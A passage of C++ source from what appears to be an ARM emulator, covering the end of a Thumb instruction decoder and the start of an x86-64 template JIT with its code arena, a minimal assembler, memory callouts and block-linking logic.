      insn.imm = bits(w, 7, 0);
      return insn;
    case 0b00110:
    case 0b00111:
      insn.op = top5 == 0b00110 ? Op::kAdd : Op::kSub;
      insn.imm_operand = true;
      insn.rd = insn.rn = static_cast<u8>(bits(w, 10, 8));
      insn.imm = bits(w, 7, 0);
      return insn;
    default:
      break;
  }

  if (bits(w, 15, 10) == 0b010000) {
    const u32 alu = bits(w, 9, 6);
    const u8 rdn = static_cast<u8>(bits(w, 2, 0));
    const u8 rm = static_cast<u8>(bits(w, 5, 3));
    insn.rd = insn.rn = rdn;
    insn.rm = rm;
    switch (alu) {
      case 0x0: insn.op = Op::kAnd; break;
      case 0x1: insn.op = Op::kEor; break;
      case 0x2:
      case 0x3:
      case 0x4:
      case 0x7:
        // Shift by register: MOVS Rdn, Rdn, <shift> Rm.
        insn.op = Op::kMov;
        insn.rm = rdn;
        insn.rs = rm;
        insn.shift_by_reg = true;
        insn.shift = alu == 0x2   ? ShiftType::kLSL
                     : alu == 0x3 ? ShiftType::kLSR
                     : alu == 0x4 ? ShiftType::kASR
                                  : ShiftType::kROR;
        break;
      case 0x5: insn.op = Op::kAdc; break;
      case 0x6: insn.op = Op::kSbc; break;
      case 0x8: insn.op = Op::kTst; break;
      case 0x9:  // NEG/RSBS Rd, Rm, #0
        insn.op = Op::kRsb;
        insn.rn = rm;
        insn.imm_operand = true;
        insn.imm = 0;
        break;
      case 0xA: insn.op = Op::kCmp; insn.rn = rdn; break;
      case 0xB: insn.op = Op::kCmn; insn.rn = rdn; break;
      case 0xC: insn.op = Op::kOrr; break;
      case 0xD:
        insn.op = Op::kMul;
        insn.rn = rm;
        insn.rm = rdn;
        break;
      case 0xE: insn.op = Op::kBic; break;
      case 0xF: insn.op = Op::kMvn; break;
    }
    return insn;
  }

  if (bits(w, 15, 10) == 0b010001) {
    insn.set_flags = false;
    const u32 op = bits(w, 9, 8);
    const u8 rm = static_cast<u8>(bits(w, 6, 3));
    const u8 rdn = static_cast<u8>((bit(w, 7) ? 8 : 0) | bits(w, 2, 0));
    switch (op) {
      case 0b00:
        insn.op = Op::kAdd;
        insn.rd = insn.rn = rdn;
        insn.rm = rm;
        return insn;
      case 0b01:
        insn.op = Op::kCmp;
        insn.set_flags = true;
        insn.rn = rdn;
        insn.rm = rm;
        return insn;
      case 0b10:
        insn.op = Op::kMov;
        insn.rd = rdn;
        insn.rm = rm;
        return insn;
      case 0b11:
        insn.op = bit(w, 7) ? Op::kBlxReg : Op::kBx;
        insn.link = bit(w, 7);
        insn.rm = rm;
        return insn;
    }
  }

  if (top5 == 0b01001) {
    // LDR Rt, [PC, #imm8<<2] (literal).
    insn.op = Op::kLdr;
    insn.set_flags = false;
    insn.rd = static_cast<u8>(bits(w, 10, 8));
    insn.rn = kRegPC;
    insn.imm = bits(w, 7, 0) * 4;
    return insn;
  }

  if (bits(w, 15, 12) == 0b0101) {
    insn.set_flags = false;
    static constexpr Op kOps[8] = {Op::kStr,  Op::kStrh,  Op::kStrb,
                                   Op::kLdrsb, Op::kLdr,  Op::kLdrh,
                                   Op::kLdrb, Op::kLdrsh};
    insn.op = kOps[bits(w, 11, 9)];
    insn.reg_offset = true;
    insn.rm = static_cast<u8>(bits(w, 8, 6));
    insn.rn = static_cast<u8>(bits(w, 5, 3));
    insn.rd = static_cast<u8>(bits(w, 2, 0));
    return insn;
  }

  if (bits(w, 15, 13) == 0b011) {
    insn.set_flags = false;
    const bool byte = bit(w, 12);
    const bool load = bit(w, 11);
    insn.op = load ? (byte ? Op::kLdrb : Op::kLdr)
                   : (byte ? Op::kStrb : Op::kStr);
    insn.imm = bits(w, 10, 6) * (byte ? 1 : 4);
    insn.rn = static_cast<u8>(bits(w, 5, 3));
    insn.rd = static_cast<u8>(bits(w, 2, 0));
    return insn;
  }

  if (bits(w, 15, 12) == 0b1000) {
    insn.set_flags = false;
    insn.op = bit(w, 11) ? Op::kLdrh : Op::kStrh;
    insn.imm = bits(w, 10, 6) * 2;
    insn.rn = static_cast<u8>(bits(w, 5, 3));
    insn.rd = static_cast<u8>(bits(w, 2, 0));
    return insn;
  }

  if (bits(w, 15, 12) == 0b1001) {
    insn.set_flags = false;
    insn.op = bit(w, 11) ? Op::kLdr : Op::kStr;
    insn.rn = kRegSP;
    insn.rd = static_cast<u8>(bits(w, 10, 8));
    insn.imm = bits(w, 7, 0) * 4;
    return insn;
  }

  if (bits(w, 15, 12) == 0b1010) {
    // ADR / ADD Rd, SP, #imm.
    insn.set_flags = false;
    insn.op = Op::kAdd;
    insn.imm_operand = true;
    insn.rn = bit(w, 11) ? kRegSP : kRegPC;
    insn.rd = static_cast<u8>(bits(w, 10, 8));
    insn.imm = bits(w, 7, 0) * 4;
    return insn;
  }

  if (bits(w, 15, 12) == 0b1011) {
    insn.set_flags = false;
    if (bits(w, 11, 8) == 0b0000) {
      insn.op = bit(w, 7) ? Op::kSub : Op::kAdd;
      insn.imm_operand = true;
      insn.rd = insn.rn = kRegSP;
      insn.imm = bits(w, 6, 0) * 4;
      return insn;
    }
    if (bits(w, 11, 6) == 0b001000 || bits(w, 11, 6) == 0b001001 ||
        bits(w, 11, 6) == 0b001010 || bits(w, 11, 6) == 0b001011) {
      static constexpr Op kExt[4] = {Op::kSxth, Op::kSxtb, Op::kUxth,
                                     Op::kUxtb};
      insn.op = kExt[bits(w, 7, 6)];
      insn.rm = static_cast<u8>(bits(w, 5, 3));
      insn.rd = static_cast<u8>(bits(w, 2, 0));
      return insn;
    }
    if (bits(w, 11, 9) == 0b010) {  // PUSH
      insn.op = Op::kStm;
      insn.rn = kRegSP;
      insn.writeback = true;
      insn.before = true;
      insn.base_increment = false;
      insn.reglist = static_cast<u16>(bits(w, 7, 0));
      if (bit(w, 8)) insn.reglist |= 1u << kRegLR;
      return insn;
    }
    if (bits(w, 11, 9) == 0b110) {  // POP
      insn.op = Op::kLdm;
      insn.rn = kRegSP;
      insn.writeback = true;
      insn.before = false;
      insn.base_increment = true;
      insn.reglist = static_cast<u16>(bits(w, 7, 0));
      if (bit(w, 8)) insn.reglist |= 1u << kRegPC;
      return insn;
    }
    if (bits(w, 15, 8) == 0xBF) {
      if (bits(w, 3, 0) != 0) {
        // IT{x{y{z}}}: stash the whole ITSTATE byte; the executor resolves
        // the per-instruction condition dynamically (the decode cache keys
        // on the encoding alone, so IT context can never be baked into the
        // decoded form of the instructions that follow).
        insn.op = Op::kIt;
        insn.imm = bits(w, 7, 0);
        return insn;
      }
      insn.op = Op::kNop;  // NOP and the YIELD/WFE/WFI/SEV hints
      return insn;
    }
    insn.op = Op::kUndefined;
    return insn;
  }

  if (bits(w, 15, 12) == 0b1101) {
    insn.set_flags = false;
    const u32 cond = bits(w, 11, 8);
    if (cond == 0xF) {
      insn.op = Op::kSvc;
      insn.imm = bits(w, 7, 0);
      return insn;
    }
    if (cond == 0xE) {
      insn.op = Op::kUndefined;
      return insn;
    }
    insn.op = Op::kB;
    insn.cond = static_cast<Cond>(cond);
    insn.branch_offset = sign_extend(bits(w, 7, 0), 7) * 2;
    return insn;
  }

  if (top5 == 0b11100) {
    insn.set_flags = false;
    insn.op = Op::kB;
    insn.branch_offset = sign_extend(bits(w, 10, 0), 10) * 2;
    return insn;
  }

  if ((w & 0xFFF0u) == 0xE8D0u && (hw2 & 0xFFE0u) == 0xF000u) {
    // Thumb-2 TBB/TBH [Rn, Rm]: table branch through a byte/halfword
    // offset table. H (hw2 bit 4) selects halfword entries.
    insn.set_flags = false;
    insn.op = bit(hw2, 4) ? Op::kTbh : Op::kTbb;
    insn.length = 4;
    insn.raw = (static_cast<u32>(hw) << 16) | hw2;
    insn.rn = static_cast<u8>(bits(w, 3, 0));
    insn.rm = static_cast<u8>(bits(hw2, 3, 0));
    return insn;
  }

  if (top5 == 0b11110 && bits(hw2, 15, 11) == 0b11111) {
    // Classic two-halfword Thumb BL.
    insn.set_flags = false;
    insn.op = Op::kBl;
    insn.link = true;
    insn.length = 4;
    insn.raw = (static_cast<u32>(hw) << 16) | hw2;
    const u32 off = (bits(w, 10, 0) << 12) | (bits(hw2, 10, 0) << 1);
    insn.branch_offset = sign_extend(off, 22);
    return insn;
  }

  insn.op = Op::kUndefined;
  return insn;
}

}  // namespace ndroid::arm
