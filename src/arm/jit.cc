// Template JIT implementation. See jit.h for the architecture overview.
//
// Semantics contract: every template below is a transliteration of the
// corresponding computed-goto label in threaded.cc (which is itself the
// transliteration of the fused handlers in executor.cc), and every shape
// without a dense template calls out into C++ code that *is* the threaded
// body. Flag materialisation uses the host's arithmetic flags: after a host
// `sub`/`cmp a,b`, ARM N==SF, Z==ZF, C==!CF, V==OF; after a host `add`,
// C==CF, V==OF. setcc and plain movs write the CPUState flag bytes without
// disturbing the host flags, so the fused compare-and-branch terminals
// consume the still-live host flags with a direct jcc.
//
// Retire accounting is baked into exit sites instead of per-op increments:
// a terminal adds the whole block's instruction count to ctx.done, a
// partial exit (slow-store self-modification, exec-op dead mark, exception)
// adds exactly the instructions architecturally retired before leaving.
#include "arm/jit.h"

#include <cstddef>
#include <cstring>
#include <exception>
#include <type_traits>
#include <unordered_map>
#include <vector>

#include "arm/cpu.h"
#include "arm/uop_kernels.h"

#if defined(__unix__) || defined(__APPLE__)
#include <sys/mman.h>
#define NDROID_JIT_MMAP 1
#endif

namespace ndroid::arm {

// --- CodeArena ---------------------------------------------------------

CodeArena::CodeArena(std::size_t capacity, bool wx)
    : capacity_(capacity), wx_(wx) {
#ifdef NDROID_JIT_MMAP
  const int prot = wx ? (PROT_READ | PROT_WRITE)
                      : (PROT_READ | PROT_WRITE | PROT_EXEC);
  void* p =
      ::mmap(nullptr, capacity_, prot, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (p != MAP_FAILED) {
    base_ = static_cast<u8*>(p);
    if (wx_) ::mprotect(base_, capacity_, PROT_READ | PROT_EXEC);
  }
#endif
}

CodeArena::~CodeArena() {
#ifdef NDROID_JIT_MMAP
  if (base_ != nullptr) ::munmap(base_, capacity_);
#endif
}

u8* CodeArena::alloc(std::size_t n) {
  const std::size_t aligned = (used_ + 15u) & ~std::size_t{15};
  if (base_ == nullptr || n > capacity_ || aligned > capacity_ - n) {
    return nullptr;
  }
  u8* p = base_ + aligned;
  used_ = aligned + n;
  return p;
}

void CodeArena::begin_write() {
#ifdef NDROID_JIT_MMAP
  if (wx_ && base_ != nullptr) {
    ::mprotect(base_, capacity_, PROT_READ | PROT_WRITE);
  }
#endif
}

void CodeArena::end_write() {
#ifdef NDROID_JIT_MMAP
  if (wx_ && base_ != nullptr) {
    ::mprotect(base_, capacity_, PROT_READ | PROT_EXEC);
  }
#endif
}

// --- Availability / configuration (both build flavours) -----------------

bool Cpu::jit_available() {
#ifdef NDROID_JIT_X64
  return true;
#else
  return false;
#endif
}

void Cpu::set_jit_enabled(bool on) {
  on = on && jit_available();
  if (jit_enabled_ == on) return;
  jit_enabled_ = on;
  flush_blocks();
}

void Cpu::set_jit_config(std::size_t arena_bytes, bool wx) {
  jit_arena_bytes_ = arena_bytes;
  jit_wx_ = wx;
  flush_blocks();
  if (exec_depth_ == 0) tb_cache_.drain_graveyard();
  // Stale JitBlocks may still point into the old arena, but with all blocks
  // flushed and the graveyard drained (no guest frame is live per the
  // documented precondition), nothing can reach them — the mapping can go.
  jit_engine_.reset();
}

// The threaded L_enter gate transliterated (threaded.cc keeps the
// reference copy): hooks fire unless every hook is gated and the
// epoch-memoised block gate declares the block hook-free. Shared by both
// build flavours so tests can probe the memo protocol without a jit.
bool JitRun::gate_fire(Cpu& cpu, TranslationBlock& tb) {
  bool fire = !cpu.insn_hooks_.empty();
  if (fire && cpu.block_gate_ &&
      cpu.gated_hooks_ == static_cast<int>(cpu.insn_hooks_.size())) {
    if (cpu.block_gate_epoch_ != nullptr &&
        tb.gate_epoch == *cpu.block_gate_epoch_) {
      fire = tb.gate_fire;
    } else {
      fire = cpu.block_gate_(cpu, tb);
      if (cpu.block_gate_epoch_ != nullptr) {
        tb.gate_epoch = *cpu.block_gate_epoch_;
        tb.gate_fire = fire;
      }
    }
  }
  return fire;
}

#ifdef NDROID_JIT_X64

namespace {

// --- Execution context -------------------------------------------------

// The single C++/host-code handshake structure. Pinned in r15 for the whole
// jit segment; standard-layout so the emitter can offsetof into it.
struct JitCtx {
  Cpu* cpu = nullptr;
  CPUState* s = nullptr;
  mem::AddressSpace* mem = nullptr;
  u64 budget = 0;
  u64 done = 0;     // guest instructions retired this segment
  u64 flushed = 0;  // portion of `done` already folded into cpu->retired_
  u32 edge_slow = 0;  // branch hooks or low helpers live: links call out
  u32 exit_exc = 0;   // a callout parked an exception in *eptr
  std::exception_ptr* eptr = nullptr;
};
static_assert(std::is_standard_layout_v<JitCtx>);

// Register pinning (SysV callee-saved, so callouts preserve them):
//   r15 = JitCtx*   rbx = CPUState*   r13 = read-TLB base
//   r14 = write-TLB base              r12 = scratch that survives callouts
enum Reg : u8 {
  RAX = 0, RCX = 1, RDX = 2, RBX = 3, RSP = 4, RBP = 5, RSI = 6, RDI = 7,
  R8 = 8, R9 = 9, R10 = 10, R11 = 11, R12 = 12, R13 = 13, R14 = 14,
  R15 = 15,
};

// x86 condition-code nibbles (jcc 0F 8x / setcc 0F 9x).
enum Cc : u8 {
  CC_O = 0, CC_NO = 1, CC_B = 2, CC_AE = 3, CC_E = 4, CC_NE = 5,
  CC_BE = 6, CC_A = 7, CC_S = 8, CC_NS = 9, CC_L = 12, CC_GE = 13,
  CC_LE = 14, CC_G = 15,
};

// --- Minimal x86-64 assembler ------------------------------------------
//
// Emits into a byte vector with rel32 forward fixups; the finished block is
// copied into the arena verbatim (intra-block branches are relative, every
// external reference is a movabs-baked absolute address).
class Asm {
 public:
  std::vector<u8> out;

  void b(u8 v) { out.push_back(v); }
  void d32(u32 v) {
    for (int i = 0; i < 4; ++i) b(static_cast<u8>(v >> (8 * i)));
  }
  void d64(u64 v) {
    for (int i = 0; i < 8; ++i) b(static_cast<u8>(v >> (8 * i)));
  }
  [[nodiscard]] std::size_t size() const { return out.size(); }

  void rex(bool w, u8 reg, u8 idx, u8 base) {
    const u8 v = static_cast<u8>(0x40 | (static_cast<u8>(w) << 3) |
                                 ((reg >> 3) << 2) | ((idx >> 3) << 1) |
                                 (base >> 3));
    if (v != 0x40) b(v);
  }
  void modrm11(u8 reg, u8 rm) {
    b(static_cast<u8>(0xC0 | ((reg & 7) << 3) | (rm & 7)));
  }
  // ModRM (+SIB for rsp/r12 bases) for [base + disp].
  void mem(u8 reg, u8 base, i32 disp) {
    const u8 bl = base & 7;
    u8 mod;
    if (disp == 0 && bl != 5) mod = 0;
    else if (disp >= -128 && disp <= 127) mod = 1;
    else mod = 2;
    if (bl == 4) {
      b(static_cast<u8>((mod << 6) | ((reg & 7) << 3) | 4));
      b(0x24);
    } else {
      b(static_cast<u8>((mod << 6) | ((reg & 7) << 3) | bl));
    }
    if (mod == 1) b(static_cast<u8>(disp));
    else if (mod == 2) d32(static_cast<u32>(disp));
  }
  // ModRM+SIB for [base + index*1 + disp]; index must not be RSP.
  void memx(u8 reg, u8 base, u8 idx, i32 disp) {
    const u8 bl = base & 7;
    u8 mod;
    if (disp == 0 && bl != 5) mod = 0;
    else if (disp >= -128 && disp <= 127) mod = 1;
    else mod = 2;
    b(static_cast<u8>((mod << 6) | ((reg & 7) << 3) | 4));
    b(static_cast<u8>(((idx & 7) << 3) | bl));
    if (mod == 1) b(static_cast<u8>(disp));
    else if (mod == 2) d32(static_cast<u32>(disp));
  }

  void mov_rm32(u8 r, u8 base, i32 d) { rex(0, r, 0, base); b(0x8B); mem(r, base, d); }
  void mov_mr32(u8 base, i32 d, u8 r) { rex(0, r, 0, base); b(0x89); mem(r, base, d); }
  void mov_rm64(u8 r, u8 base, i32 d) { rex(1, r, 0, base); b(0x8B); mem(r, base, d); }
  void mov_mr64(u8 base, i32 d, u8 r) { rex(1, r, 0, base); b(0x89); mem(r, base, d); }
  void mov_rm64x(u8 r, u8 base, u8 idx, i32 d) { rex(1, r, idx, base); b(0x8B); memx(r, base, idx, d); }
  void mov_rm32x(u8 r, u8 base, u8 idx, i32 d) { rex(0, r, idx, base); b(0x8B); memx(r, base, idx, d); }
  void mov_mr32x(u8 base, u8 idx, i32 d, u8 r) { rex(0, r, idx, base); b(0x89); memx(r, base, idx, d); }
  void mov_mr16x(u8 base, u8 idx, i32 d, u8 r) { b(0x66); rex(0, r, idx, base); b(0x89); memx(r, base, idx, d); }
  void mov_mr8x(u8 base, u8 idx, i32 d, u8 r) { rex(0, r, idx, base); b(0x88); memx(r, base, idx, d); }
  void movzx8_rmx(u8 r, u8 base, u8 idx, i32 d) { rex(0, r, idx, base); b(0x0F); b(0xB6); memx(r, base, idx, d); }
  void movzx16_rmx(u8 r, u8 base, u8 idx, i32 d) { rex(0, r, idx, base); b(0x0F); b(0xB7); memx(r, base, idx, d); }
  void movzx8_rm(u8 r, u8 base, i32 d) { rex(0, r, 0, base); b(0x0F); b(0xB6); mem(r, base, d); }
  void movzx16_rm(u8 r, u8 base, i32 d) { rex(0, r, 0, base); b(0x0F); b(0xB7); mem(r, base, d); }
  void movsx8_rm(u8 r, u8 base, i32 d) { rex(0, r, 0, base); b(0x0F); b(0xBE); mem(r, base, d); }
  void movsx16_rm(u8 r, u8 base, i32 d) { rex(0, r, 0, base); b(0x0F); b(0xBF); mem(r, base, d); }
  void movsx8_rr(u8 r, u8 src) { rex(0, r, 0, src); b(0x0F); b(0xBE); modrm11(r, src); }
  void movsx16_rr(u8 r, u8 src) { rex(0, r, 0, src); b(0x0F); b(0xBF); modrm11(r, src); }
  void mov_ri32(u8 r, u32 imm) { rex(0, 0, 0, r); b(static_cast<u8>(0xB8 + (r & 7))); d32(imm); }
  void mov_ri64(u8 r, u64 imm) { rex(1, 0, 0, r); b(static_cast<u8>(0xB8 + (r & 7))); d64(imm); }
  void mov_rr32(u8 dst, u8 src) { rex(0, src, 0, dst); b(0x89); modrm11(src, dst); }
  void mov_rr64(u8 dst, u8 src) { rex(1, src, 0, dst); b(0x89); modrm11(src, dst); }
  void mov_mi32(u8 base, i32 d, u32 imm) { rex(0, 0, 0, base); b(0xC7); mem(0, base, d); d32(imm); }
  void mov_mi16(u8 base, i32 d, u16 imm) { b(0x66); rex(0, 0, 0, base); b(0xC7); mem(0, base, d); b(static_cast<u8>(imm)); b(static_cast<u8>(imm >> 8)); }
  void mov_mi8(u8 base, i32 d, u8 imm) { rex(0, 0, 0, base); b(0xC6); mem(0, base, d); b(imm); }

  // dst32 <- dst32 OP [base+disp]; opc = 03 add / 2B sub / 23 and / 0B or /
  // 33 xor / 3B cmp.
  void alu_rm32(u8 opc, u8 r, u8 base, i32 d) { rex(0, r, 0, base); b(opc); mem(r, base, d); }
  void alu_rmx32(u8 opc, u8 r, u8 base, u8 idx, i32 d) { rex(0, r, idx, base); b(opc); memx(r, base, idx, d); }
  void alu_rr32(u8 opc, u8 dst, u8 src) { rex(0, dst, 0, src); b(opc); modrm11(dst, src); }
  // r OP= imm32; ext = 0 add / 1 or / 4 and / 5 sub / 6 xor / 7 cmp.
  void alu_ri32(u8 ext, u8 r, u32 imm) { rex(0, 0, 0, r); b(0x81); modrm11(ext, r); d32(imm); }
  void alu_ri64(u8 ext, u8 r, u32 imm) { rex(1, 0, 0, r); b(0x81); modrm11(ext, r); d32(imm); }
  void add_mi64(u8 base, i32 d, u32 imm) { rex(1, 0, 0, base); b(0x81); mem(0, base, d); d32(imm); }
  void add_mi32(u8 base, i32 d, u32 imm) { rex(0, 0, 0, base); b(0x81); mem(0, base, d); d32(imm); }
  void cmp_rm64(u8 r, u8 base, i32 d) { rex(1, r, 0, base); b(0x3B); mem(r, base, d); }
  void cmp_mi8(u8 base, i32 d, u8 imm) { rex(0, 0, 0, base); b(0x80); mem(7, base, d); b(imm); }
  void cmp_mi32(u8 base, i32 d, u32 imm) { rex(0, 0, 0, base); b(0x81); mem(7, base, d); d32(imm); }
  void not_r32(u8 r) { rex(0, 0, 0, r); b(0xF7); modrm11(2, r); }
  // ext = 4 shl / 5 shr / 7 sar / 1 ror.
  void shift_ri32(u8 ext, u8 r, u8 imm) { rex(0, 0, 0, r); b(0xC1); modrm11(ext, r); b(imm); }
  void imul_rm32(u8 r, u8 base, i32 d) { rex(0, r, 0, base); b(0x0F); b(0xAF); mem(r, base, d); }
  // edx:eax = eax * [base+disp]; ext = 4 mul (unsigned) / 5 imul (signed).
  void mul1_m32(u8 ext, u8 base, i32 d) { rex(0, 0, 0, base); b(0xF7); mem(ext, base, d); }
  void inc_m64(u8 base, i32 d) { rex(1, 0, 0, base); b(0xFF); mem(0, base, d); }
  void setcc_m(u8 cc, u8 base, i32 d) { rex(0, 0, 0, base); b(0x0F); b(static_cast<u8>(0x90 + cc)); mem(0, base, d); }
  void test_rr32(u8 a, u8 c) { rex(0, a, 0, c); b(0x85); modrm11(a, c); }
  void test_rr64(u8 a, u8 c) { rex(1, a, 0, c); b(0x85); modrm11(a, c); }
  void test_al() { b(0x84); b(0xC0); }
  void mov_al_m(u8 base, i32 d) { rex(0, 0, 0, base); b(0x8A); mem(0, base, d); }
  void xor_al_1() { b(0x34); b(0x01); }
  void xor_al_m(u8 base, i32 d) { rex(0, 0, 0, base); b(0x32); mem(0, base, d); }
  void or_al_m(u8 base, i32 d) { rex(0, 0, 0, base); b(0x0A); mem(0, base, d); }
  void and_al_m(u8 base, i32 d) { rex(0, 0, 0, base); b(0x22); mem(0, base, d); }
  void mov_al_1() { b(0xB0); b(0x01); }
  void call_r(u8 r) { rex(0, 0, 0, r); b(0xFF); modrm11(2, r); }
  void jmp_r(u8 r) { rex(0, 0, 0, r); b(0xFF); modrm11(4, r); }
  void push_r(u8 r) { rex(0, 0, 0, r); b(static_cast<u8>(0x50 + (r & 7))); }
  void pop_r(u8 r) { rex(0, 0, 0, r); b(static_cast<u8>(0x58 + (r & 7))); }
  void ret() { b(0xC3); }

  // Forward rel32 branches: returns the fixup position; bind() retargets it
  // to the current end.
  [[nodiscard]] std::size_t jcc(u8 cc) {
    b(0x0F);
    b(static_cast<u8>(0x80 + cc));
    const std::size_t p = size();
    d32(0);
    return p;
  }
  [[nodiscard]] std::size_t jmp() {
    b(0xE9);
    const std::size_t p = size();
    d32(0);
    return p;
  }
  void bind(std::size_t p) {
    const i32 rel = static_cast<i32>(size() - (p + 4));
    std::memcpy(out.data() + p, &rel, 4);
  }
};

// --- Layout constants baked into templates -----------------------------

constexpr i32 kRegsOff = static_cast<i32>(offsetof(CPUState, regs));
constexpr i32 reg_off(u8 r) { return kRegsOff + 4 * static_cast<i32>(r); }
constexpr i32 kPcOff = kRegsOff + 4 * kRegPC;
constexpr i32 kFlagN = static_cast<i32>(offsetof(CPUState, n));
constexpr i32 kFlagZ = static_cast<i32>(offsetof(CPUState, z));
constexpr i32 kFlagC = static_cast<i32>(offsetof(CPUState, c));
constexpr i32 kFlagV = static_cast<i32>(offsetof(CPUState, v));
constexpr i32 kThumbOff = static_cast<i32>(offsetof(CPUState, thumb));
constexpr i32 kItOff = static_cast<i32>(offsetof(CPUState, itstate));

constexpr i32 kCtxS = static_cast<i32>(offsetof(JitCtx, s));
constexpr i32 kCtxBudget = static_cast<i32>(offsetof(JitCtx, budget));
constexpr i32 kCtxDone = static_cast<i32>(offsetof(JitCtx, done));
constexpr i32 kCtxEdgeSlow = static_cast<i32>(offsetof(JitCtx, edge_slow));

constexpr u32 kPageMask = mem::AddressSpace::kPageMask;
constexpr u32 kPageSize = mem::AddressSpace::kPageSize;
constexpr u32 kTlbMask = mem::AddressSpace::kTlbSlots - 1;

// ARM condition -> jcc nibble after a host sub/cmp (full flag fidelity:
// ARM C is the complement of the host borrow, so CS -> AE and so on).
constexpr u8 kCcSub[14] = {
    CC_E,  CC_NE, CC_AE, CC_B,  CC_S,  CC_NS, CC_O,
    CC_NO, CC_A,  CC_BE, CC_GE, CC_L,  CC_G,  CC_LE,
};
// After a host `test` for the cmp-#0 shape (ARM C:=1, V:=0): CS/VC become
// always-taken, CC/VS never-taken, and OF=0 keeps the signed forms exact.
constexpr u8 kCcAlways = 0xFE;
constexpr u8 kCcNever = 0xFF;
constexpr u8 kCcCmp0[14] = {
    CC_E,      CC_NE, kCcAlways, kCcNever, CC_S,  CC_NS, kCcNever,
    kCcAlways, CC_NE, CC_E,      CC_GE,    CC_L,  CC_G,  CC_LE,
};

// --- Memory callouts (TLB-miss slow paths) ------------------------------
//
// These reuse the exact kernels the threaded bodies run, so slow-path
// semantics (write-watch, refill) are shared by construction. Reads are
// fault-free by the AddressSpace contract (untouched memory reads zero) and
// the write slow path only runs the internal write watch, so none of these
// can throw — matching the threaded tier, where the same calls sit outside
// any catch.

u32 co_read8(JitCtx* c, u32 a) noexcept { return ld_u8(*c->mem, a); }
u32 co_read16(JitCtx* c, u32 a) noexcept { return ld_u16(*c->mem, a); }
u32 co_read32(JitCtx* c, u32 a) noexcept { return ld_u32(*c->mem, a); }
void co_write8(JitCtx* c, u32 a, u32 v) noexcept { st_u8(*c->mem, a, v); }
void co_write16(JitCtx* c, u32 a, u32 v) noexcept { st_u16(*c->mem, a, v); }
void co_write32(JitCtx* c, u32 a, u32 v) noexcept { st_u32(*c->mem, a, v); }
u32 co_stm(JitCtx* c, const TbInsn* ti) noexcept {
  return stm_dense(*c->s, *c->mem, ti->insn) ? 1u : 0u;
}
void co_ldm(JitCtx* c, const TbInsn* ti) noexcept {
  ldm_dense(*c->s, *c->mem, ti->insn);
}

// General-path body instruction (threaded L_exec / L_exec_dead): never a
// branch, may throw (undecodable shapes surface as GuestFault). Returns 0
// on success, 1 with the exception parked in the context.
u64 co_exec(JitCtx* c, const TbInsn* ti, u32 pc) noexcept {
  try {
    c->s->set_pc(pc);
    execute(ti->insn, *c->s, *c->mem);
    return 0;
  } catch (...) {
    *c->eptr = std::current_exception();
    c->exit_exc = 1;
    return 1;
  }
}

// Reverse map from a computed-goto label to its micro-op kind.
UK uop_kind(const void* label) {
  static const std::unordered_map<const void*, UK> map = [] {
    std::unordered_map<const void*, UK> m;
    void* const* table = ThreadedRun::label_table();
    for (u32 k = 0; k < static_cast<u32>(UK::kCount); ++k) {
      m.emplace(table[k], static_cast<UK>(k));
    }
    return m;
  }();
  const auto it = map.find(label);
  return it == map.end() ? UK::kCount : it->second;
}

// Per-generation prologue/epilogue glue, emitted at the arena base. The
// prologue saves the callee-saved pin registers (6 pushes plus the rsp
// adjustment leave rsp 16-aligned inside block code, so a slow path's
// `call` meets the SysV alignment rule), loads the pins, and tail-jumps
// into block code; the epilogue restores and returns to JitRun::exec. RBP
// is saved here but only pinned (to the taint register-label file) at each
// traced body's entry — clean bodies never touch it.
bool emit_stubs(Cpu& cpu, JitEngine& eng) {
  const mem::AddressSpace::TlbView view = cpu.memory().tlb_view();
  Asm a;
  a.push_r(RBX);
  a.push_r(RBP);
  a.push_r(R12);
  a.push_r(R13);
  a.push_r(R14);
  a.push_r(R15);
  a.alu_ri64(5, RSP, 8);
  a.mov_rr64(R15, RDI);
  a.mov_rm64(RBX, RDI, kCtxS);
  a.mov_ri64(R13, reinterpret_cast<u64>(view.read_base));
  a.mov_ri64(R14, reinterpret_cast<u64>(view.write_base));
  a.jmp_r(RSI);
  const std::size_t epi = a.size();
  a.alu_ri64(0, RSP, 8);
  a.pop_r(R15);
  a.pop_r(R14);
  a.pop_r(R13);
  a.pop_r(R12);
  a.pop_r(RBP);
  a.pop_r(RBX);
  a.ret();

  u8* code = eng.arena.alloc(a.size());
  if (code == nullptr) return false;
  eng.arena.begin_write();
  std::memcpy(code, a.out.data(), a.size());
  eng.arena.end_write();
  eng.entry = reinterpret_cast<JitEngine::EntryFn>(code);
  eng.epilogue = code + epi;
  return true;
}

}  // namespace

// --- Edge resolution (threaded link_edge/link_fall transliterated) ------

const void* JitRun::resolve(void* ctx_, void* jb_, u32 slot_idx, u32 from,
                            u32 to, u32 taken) {
  auto* c = static_cast<JitCtx*>(ctx_);
  auto* jb = static_cast<JitBlock*>(jb_);
  Cpu& cpu = *c->cpu;
  CPUState& s = *c->s;
  if (taken != 0 && !cpu.branch_hooks_.empty() &&
      !cpu.is_branch_quiet(*jb->blk->tb, from, to)) {
    // Analysis event: fire and surface (hooks may move anything).
    s.set_pc(to);
    cpu.retired_ += c->done - c->flushed;
    c->flushed = c->done;
    cpu.fire_branch_hooks(from, to);
    return nullptr;
  }
  if (s.itstate != 0 || to >= kHelperWindowBase ||
      (cpu.has_low_helpers_ && cpu.helpers_.count(to) != 0)) {
    s.set_pc(to);
    return nullptr;
  }
  JitEngine& eng = *cpu.jit_engine_;
  const u64 key = TbCache::key(to, s.thumb);
  const u64 ver = cpu.tb_cache_.version();
  HostSlot& slot = jb->slots[slot_idx];
  if (!cpu.insn_hooks_.empty()) {
    // Gate-live mode: every crossing re-decides the stream, so slots are
    // never consulted or patched (a cached target would freeze a stale
    // gate answer into the edge). The inline fast path is already fenced
    // off — exec forces edge_slow while instruction hooks are live.
    const Cpu::TbFrontEntry& fe = cpu.tb_front_[static_cast<u32>(
        (key * 0x9E3779B97F4A7C15ull) >> (64 - Cpu::kTbFrontBits))];
    if (fe.key == key && fe.version == ver && fe.tb->threaded != nullptr &&
        fe.tb->threaded->jit != nullptr &&
        fe.tb->threaded->jit->code != nullptr &&
        fe.tb->threaded->jit->arena_gen == eng.generation) {
      ThreadedBlock& sb = *fe.tb->threaded;
      if (gate_fire(cpu, *fe.tb)) {
        if (sb.jit->traced_entry != nullptr) {
          ++cpu.jit_links_;
          return sb.jit->traced_entry;
        }
        // Gate fired but no traced stream was emitted: surface so the
        // trampoline dispatches this block through the threaded tier.
        s.set_pc(to);
        return nullptr;
      }
      ++cpu.fastpath_blocks_;
